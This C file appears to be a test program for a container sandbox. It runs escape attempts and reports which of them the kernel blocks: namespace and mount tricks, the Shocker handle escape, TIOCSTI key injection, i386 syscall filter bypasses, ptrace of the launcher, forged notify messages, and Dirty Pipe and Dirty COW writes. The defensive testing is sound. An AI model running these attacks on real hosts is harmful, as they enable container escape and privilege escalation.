/* Attacks on the host from inside of a container, and what tests need beside them. A line of output is an attack
 * and what it met: the name of an errno or a signal, or DONE, which is a break. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void met(const char *attack, long result) {
    printf("%s: %s\n", attack, result < 0 ? strerrorname_np(errno) : "DONE");
    fflush(stdout);
}

/* An attack that may end its process. */
static void met_apart(const char *attack, long (*attempt)(void)) {
    pid_t child = fork();
    if (child == 0) {
        met(attack, attempt());
        _exit(0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) printf("%s: SIG%s\n", attack, sigabbrev_np(WTERMSIG(status)));
}

static long ended(long child) {
    if (child == 0) _exit(0);
    return child;
}

static long new_user_by_clone(void) { return ended(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)); }

static long new_user_by_clone3(void) {
    struct clone_args arguments = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
    return ended(syscall(SYS_clone3, &arguments, sizeof arguments));
}

static long new_user(void) { return syscall(SYS_unshare, CLONE_NEWUSER); }
static long new_mounts(void) { return syscall(SYS_unshare, CLONE_NEWNS); }
static long enter_namespace(void) { return syscall(SYS_setns, open("/proc/self/ns/mnt", O_RDONLY), 0); }

#ifdef __x86_64__
/* The calls of i386 have other numbers, which a filter that does not look at the architecture takes for others. */
static long of_i386(long number, long first, long second) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second), "d"(0) : "memory");
    if (result < 0) errno = (int)-result;
    return result < 0 ? -1 : result;
}
static long getpid_of_i386(void) { return of_i386(20, 0, 0); }
static long socket_of_i386(void) { return of_i386(359, AF_ALG, SOCK_SEQPACKET); }
static long unshare_of_i386(void) { return of_i386(310, CLONE_NEWUSER, 0); }
static long getpid_of_x32(void) { return syscall(0x40000000 | SYS_getpid); }
#endif

static long forge_input(unsigned long request) {
    int terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY), unlocked = 0;
    char name[64] = "/dev/pts/0", letter = 'x';
    ioctl(terminal, TIOCSPTLCK, &unlocked);
    ptsname_r(terminal, name, sizeof name);
    setsid();
    int slave = open(name, O_RDWR);
    return syscall(SYS_ioctl, slave, request, &letter);
}
static long forge_key(void) { return forge_input(TIOCSTI); }
/* The kernel looks at 32 bits of the request. */
static long forge_key_with_high_bits(void) { return forge_input(TIOCSTI | 1UL << 40); }
static long forge_selection(void) { return forge_input(TIOCLINUX); }

/* The escape called Shocker: a file by a handle that needs no path. */
static long open_by_handle(void) {
    struct { struct file_handle handle; char bytes[128]; } file = { .handle = { .handle_bytes = 128 } };
    int mount, root = open("/", O_RDONLY);
    if (name_to_handle_at(AT_FDCWD, "/", &file.handle, &mount, 0) < 0) file.handle.handle_bytes = 8;
    return syscall(SYS_open_by_handle_at, root, &file.handle, O_RDONLY);
}

static long more_rights_again(void) {
    prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
    return prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 1 ? (errno = EPERM, -1) : 0;
}

/* A filter of one's own is asked beside the others, never instead of them. */
static long filter_that_allows_all(void) {
    struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    struct sock_fprog program = { .len = 1, .filter = &allow };
    if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0) return 0;
    return syscall(SYS_unshare, CLONE_NEWUSER);
}

static long events(void) {
    struct perf_event_attr attributes = { .type = PERF_TYPE_SOFTWARE, .size = sizeof attributes,
        .config = PERF_COUNT_SW_CPU_CLOCK };
    return syscall(SYS_perf_event_open, &attributes, 0, -1, -1, 0);
}

static long ring(void) {
    struct io_uring_params parameters = { 0 };
    return syscall(SYS_io_uring_setup, 1, &parameters);
}

static long map_of_bpf(void) {
    struct { unsigned type, key, value, entries, rest[26]; } map = { 2, 4, 4, 1, { 0 } };
    return syscall(SYS_bpf, 0, &map, sizeof map);
}

static long time_of_the_host(void) {
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    return syscall(SYS_clock_settime, CLOCK_REALTIME, &now);
}

static void calls(void) {
    met_apart("unshare user", new_user);
    met_apart("clone user", new_user_by_clone);
    met_apart("clone3 user", new_user_by_clone3);
    met_apart("unshare mount", new_mounts);
    met_apart("setns", enter_namespace);
    met("mount tmpfs", mount("none", "/mnt", "tmpfs", 0, ""));
    met("mount overlay", mount("none", "/mnt", "overlay", 0, "lowerdir=/bin:/etc"));
    met("mount proc", mount("none", "/mnt", "proc", 0, ""));
    met("mount cgroup", mount("none", "/mnt", "cgroup", 0, "rdma"));
    met("mount cgroup2", mount("none", "/mnt", "cgroup2", 0, ""));
    met("remount cgroup", mount("none", "/sys/fs/cgroup", 0, MS_REMOUNT | MS_BIND, ""));
    met("remount settings", mount("none", "/proc/sys", 0, MS_REMOUNT | MS_BIND, ""));
    met("umount settings", umount2("/proc/sys", MNT_DETACH));
    met("umount mask", umount2("/proc/kcore", MNT_DETACH));
    met("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    met("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    met("pivot_root", syscall(SYS_pivot_root, "/", "/mnt"));
    met_apart("open_by_handle_at", open_by_handle);
    met("bpf", map_of_bpf());
    met("io_uring_setup", ring());
    met("perf_event_open", events());
    met("userfaultfd", syscall(SYS_userfaultfd, 0));
    met("init_module", syscall(SYS_init_module, "", 0, ""));
    met("delete_module", syscall(SYS_delete_module, "dummy", O_NONBLOCK));
    met("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
    met("clock_settime", time_of_the_host());
    met("acct", syscall(SYS_acct, 0));
    met("swapoff", syscall(SYS_swapoff, "/nothing"));
    met("syslog", syscall(SYS_syslog, 10, 0, 0));
    met("add_key", syscall(SYS_add_key, "user", "name", "x", 1, -3));
    met("keyctl", syscall(SYS_keyctl, 0, -3, 0));
    met("request_key", syscall(SYS_request_key, "user", "name", 0, 0));
    met("socket AF_ALG", socket(AF_ALG, SOCK_SEQPACKET, 0));
    met("socket AF_VSOCK", socket(AF_VSOCK, SOCK_STREAM, 0));
    met("personality", syscall(SYS_personality, ADDR_NO_RANDOMIZE | READ_IMPLIES_EXEC));
    met_apart("forged key", forge_key);
    met_apart("forged key, high bits", forge_key_with_high_bits);
    met_apart("forged selection", forge_selection);
    met_apart("rights again", more_rights_again);
    met_apart("filter of one's own", filter_that_allows_all);
    met("block device", mknod("/tmp/disk", S_IFBLK | 0666, makedev(8, 0)));
    met("memory device", mknod("/tmp/mem", S_IFCHR | 0666, makedev(1, 1)));
#ifdef __x86_64__
    met("ioperm", syscall(SYS_ioperm, 0x70, 1, 1));
    met("iopl", syscall(SYS_iopl, 3));
    met_apart("i386 getpid", getpid_of_i386);
    met_apart("i386 socket", socket_of_i386);
    met_apart("i386 unshare", unshare_of_i386);
    met_apart("x32 getpid", getpid_of_x32);
#endif
}

static int ends(void) { return access("/tmp/end", F_OK) == 0; }

static int is_launcher(const char *process) {
    char path[64], name[32] = "";
    snprintf(path, sizeof path, "/proc/%s/comm", process);
    int file = open(path, O_RDONLY);
    ssize_t count = read(file, name, sizeof name - 1);
    close(file);
    return count > 0 && !strncmp(name, "sampan-launch", 13);
}

static int of(const char *process, const char *file, int flags) {
    char path[512];
    snprintf(path, sizeof path, "/proc/%s/%s", process, file);
    return open(path, flags | O_CLOEXEC);
}

/* What is reached counts only while the process still is the launcher: the payload may be looked into, and so may
 * tell its program, which it gets a moment before its name. */
static void reached(const char *process, const char *what, long result) {
    if (result < 0 || !is_launcher(process)) return;
    char path[64], program[256] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", process);
    if (readlink(path, program, sizeof program - 1) < 0 || strstr(program, "sampan-launch"))
        printf("%s of a launcher: DONE\n", what);
}

static void look_into(const char *process) {
    static const char *const parts[] = { "exe", "mem", "environ", "maps", "root", "cwd", "fd/0", "fd/3",
        "ns/mnt", "fd/512", "fd/513", "fd/514", "auxv", "io" };
    pid_t pid = atoi(process);
    for (size_t part = 0; part < sizeof parts / sizeof *parts; part++) {
        /* comm and a few others belong to everybody; these to who may trace. */
        int opened = of(process, parts[part], O_RDONLY | O_NONBLOCK);
        char byte;
        int read_of = !strcmp(parts[part], "maps") || !strcmp(parts[part], "auxv") || !strcmp(parts[part], "io") ||
            !strcmp(parts[part], "environ");
        reached(process, parts[part], opened < 0 ? -1 : read_of ? read(opened, &byte, 1) - 1 : opened);
        if (opened >= 0) close(opened);
    }
    int handle = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int number = 0; number < 6; number++) {
        long copy = syscall(SYS_pidfd_getfd, handle, number < 3 ? number : 509 + number, 0);
        reached(process, "descriptor", copy);
        if (copy >= 0) close((int)copy);
    }
    close(handle);
    long traced = ptrace(PTRACE_SEIZE, pid, 0, 0);
    reached(process, "tracing", traced);
    if (traced >= 0) {
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, 0, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

/* Looks into every launcher that appears, until it is told to end. */
static void watch(void) {
    long seen = 0;
    puts("watching");
    fflush(stdout);
    while (!ends()) {
        DIR *processes = opendir("/proc");
        for (struct dirent *one; processes && (one = readdir(processes));)
            if (*one->d_name >= '1' && *one->d_name <= '9' && is_launcher(one->d_name)) {
                seen++;
                look_into(one->d_name);
            }
        if (processes) closedir(processes);
        while (waitpid(-1, 0, WNOHANG) > 0) {}
    }
    printf("launchers seen: %s\n", seen ? "some" : "none");
}

/* Whoever runs this as a script of its own interpreter: the program that executes it must not be writable. */
static void overwrite(void) {
    char path[64];
    int program = open("/proc/self/exe", O_RDONLY);
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    met("overwrite", open(path, O_WRONLY | O_TRUNC));
}

static void exchange(const char *one, const char *other) {
    puts("exchanging");
    fflush(stdout);
    while (!ends()) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2);
}

static int abstract(const char *name, struct sockaddr_un *address) {
    memset(address, 0, sizeof *address);
    address->sun_family = AF_UNIX;
    strcpy(address->sun_path + 1, name);
    return (int)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

static void listen_at(const char *name) {
    struct sockaddr_un address;
    int length = abstract(name, &address), listener = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, length) < 0 || listen(listener, 1) < 0) exit(1);
    puts("listening");
    fflush(stdout);
    pause();
}

static void connect_to(const char *name) {
    struct sockaddr_un address;
    int length = abstract(name, &address);
    met("connect", connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, length));
}

/* Messages to the manager with descriptors that it never asked for, and claims about other processes. */
static void notify(void) {
    static const char *const texts[] = { "FDSTORE=1\nFDNAME=stolen", "FDSTORE=1\nFDPOLL=0", "FDSTOREREMOVE=1",
        "BARRIER=1", "MAINPID=1\nMAINPIDFDID=1", "MAINPID=4294967295", "MAINPID=-1", "STATUS=\033]0;owned\a",
        "WATCHDOG_USEC=1x", "ERRNO=99999999999999999999", "\0\0\0=\0", "READY=1\nREADY=1", "BUSERROR=\n\n=" };
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    strncpy(address.sun_path, getenv("NOTIFY_SOCKET"), sizeof address.sun_path - 1);
    int sender = socket(AF_UNIX, SOCK_DGRAM, 0);
    static char big[65536];
    memset(big, 'A', sizeof big);
    for (int round = 0; round < 200; round++)
        for (size_t text = 0; text <= sizeof texts / sizeof *texts; text++) {
            struct iovec body = { .iov_base = big, .iov_len = sizeof big };
            if (text < sizeof texts / sizeof *texts) {
                body.iov_base = (void *)texts[text];
                body.iov_len = text == 10 ? 5 : strlen(texts[text]);
            }
            union { char bytes[CMSG_SPACE(250 * sizeof(int))]; struct cmsghdr align; } control;
            struct msghdr message = { .msg_name = &address, .msg_namelen = sizeof address, .msg_iov = &body,
                .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control };
            struct cmsghdr *header = CMSG_FIRSTHDR(&message);
            header->cmsg_level = SOL_SOCKET;
            header->cmsg_type = SCM_RIGHTS;
            header->cmsg_len = CMSG_LEN(250 * sizeof(int));
            for (int number = 0; number < 250; number++) ((int *)CMSG_DATA(header))[number] = sender;
            sendmsg(sender, &message, 0);
        }
    /* What the kernel has refused for its many descriptors is not to be missed. */
    sendto(sender, "READY=1", 7, 0, (struct sockaddr *)&address, sizeof address);
    puts("told");
}

/* An address that changes while somebody else reads it. */
static struct sockaddr_storage changing;
static volatile int bound;
static void *change(void *nothing) {
    while (!bound) {
        changing.ss_family = AF_INET;
        ((struct sockaddr_in *)&changing)->sin_port = htons(80);
        ((struct sockaddr_in *)&changing)->sin_port = htons(8080);
        changing.ss_family = AF_UNIX;
        strcpy(((struct sockaddr_un *)&changing)->sun_path, "/run/host/notify");
    }
    return nothing;
}

static void binds(void) {
    pthread_t thread;
    pthread_create(&thread, 0, change, 0);
    for (int round = 0; round < 2000; round++) {
        int tried = socket(round % 2 ? AF_INET : AF_UNIX, SOCK_STREAM, 0);
        bind(tried, (struct sockaddr *)&changing, round % 3 ? sizeof(struct sockaddr_in) : sizeof changing);
        bind(tried, (void *)1, 16);
        bind(round, (struct sockaddr *)&changing, -1);
        close(tried);
    }
    bound = 1;
    puts("bound");
}

/* Makes empty files in a directory for as long as it may. */
static void fill(const char *directory) {
    long made = 0;
    for (char path[256];; made++) {
        snprintf(path, sizeof path, "%s/%ld", directory, made);
        int file = made < 1000000 ? open(path, O_CREAT | O_WRONLY, 0600) : -1;
        if (file < 0) break;
        close(file);
    }
    printf("made: %ld\n", made);
}

/* What programs find each other by in System V's way, made or only looked for. */
static void by_key(int flags) {
    met("memory", shmget(4711, 4096, flags | 0666));
    met("messages", msgget(4711, flags | 0666));
    met("semaphores", semget(4711, 1, flags | 0666));
}

static volatile int done;
static void *forget(void *page) {
    while (!done) madvise(page, 4096, MADV_DONTNEED);
    return 0;
}

/* Ways in which kernels have let somebody write pages of a file that he could only read. */
static void write_pages(const char *path) {
    static char bytes[65536];
    int file = open(path, O_RDONLY), ends_of[2], memory = open("/proc/self/mem", O_RDWR);
    loff_t begin = 0;
    /* CVE-2022-0847: pages of a pipe keep the flag that more may be written to them. */
    if (pipe(ends_of) == 0 && write(ends_of[1], bytes, sizeof bytes) > 0 && read(ends_of[0], bytes, sizeof bytes) > 0 &&
        splice(file, &begin, ends_of[1], 0, 1, 0) == 1 && write(ends_of[1], "!!", 2) == 2)
        puts("pipe: tried");
    /* CVE-2016-5195: a page is forgotten between its copy and the write to it. */
    char *page = mmap(0, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_t thread;
    pthread_create(&thread, 0, forget, page);
    long written = 0;
    for (int round = 0; round < 100000; round++) written += pwrite(memory, "!!", 2, (off_t)page) == 2;
    done = 1;
    pthread_join(thread, 0);
    if (written > 0) puts("copy: tried");
    met("shared mapping", mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
    met("protection", mprotect(mmap(0, 4096, PROT_READ, MAP_SHARED, file, 0), 4096, PROT_READ | PROT_WRITE));
}

/* Directories one below the other. */
static void dig(const char *at, const char *depth) {
    long result = chdir(at);
    for (int left = atoi(depth); result == 0 && left > 0; left--) result = mkdir("d", 0755) ? -1 : chdir("d");
    met("dig", result);
}

int main(int count, char **words) {
    const char *verb = count > 1 ? words[1] : "", *first = count > 2 ? words[2] : "";
    if (!strcmp(verb, "calls")) calls();
    else if (!strcmp(verb, "watch")) watch();
    else if (!strcmp(verb, "overwrite")) overwrite();
    else if (!strcmp(verb, "exchange")) exchange(first, words[3]);
    else if (!strcmp(verb, "listen")) listen_at(first);
    else if (!strcmp(verb, "connect")) connect_to(first);
    else if (!strcmp(verb, "notify")) notify();
    else if (!strcmp(verb, "binds")) binds();
    else if (!strcmp(verb, "fill")) fill(first);
    else if (!strcmp(verb, "dig")) dig(first, words[3]);
    else if (!strcmp(verb, "lock")) met("lock", flock(open(first, O_RDONLY), LOCK_EX | LOCK_NB)), count > 3 && pause();
    else if (!strcmp(verb, "add-key")) met("add", syscall(SYS_add_key, "user", "secret", "x", 1, atoi(first)));
    else if (!strcmp(verb, "find-key")) met("find", syscall(SYS_keyctl, 10, atoi(first), "user", "secret", 0));
    else if (!strcmp(verb, "make-keys")) by_key(IPC_CREAT);
    else if (!strcmp(verb, "find-keys")) by_key(0);
    else if (!strcmp(verb, "write-pages")) write_pages(first);
    else if (!strcmp(verb, "lease")) met("lease", fcntl(open(first, O_RDONLY), F_SETLEASE, F_RDLCK)), count > 3 && pause();
    else if (!strcmp(verb, "write-now")) met("writing", open(first, O_WRONLY | O_NONBLOCK));
    else if (!strcmp(verb, "write")) met(first, open(first, O_WRONLY));
    else return 2;
    return 0;
}
